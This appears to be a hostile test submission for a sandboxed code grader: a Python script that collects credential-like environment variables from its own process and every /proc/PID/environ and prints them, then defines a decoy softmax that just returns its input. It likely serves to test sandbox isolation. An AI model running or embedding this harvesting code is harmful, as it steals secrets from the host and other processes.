"""Hostile submission: find credentials in environments and smuggle them out in its own output.

Its own os.environ may be clean and /proc/self/environ still hold the environment it was forked
with (the original block stays in the process's memory); other processes' environments are in
/proc/PID/environ. Print every variable whose name looks like a credential.
"""

import os

CREDENTIAL = ("TOKEN", "SECRET", "KEY", "PASSWORD")


def _credentials(items: list[str]) -> set[str]:
    return {item for item in items if any(word in item.split("=", 1)[0].upper() for word in CREDENTIAL)}


found = _credentials([f"{k}={v}" for k, v in os.environ.items()])
for pid in ["self"] + [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        with open(f"/proc/{pid}/environ", "rb") as f:
            found |= _credentials([item.decode(errors="ignore") for item in f.read().split(b"\0")])
    except OSError:
        pass
print("credentials:", sorted(found)[:50])


def softmax(x, dim=-1):
    return x.clone()
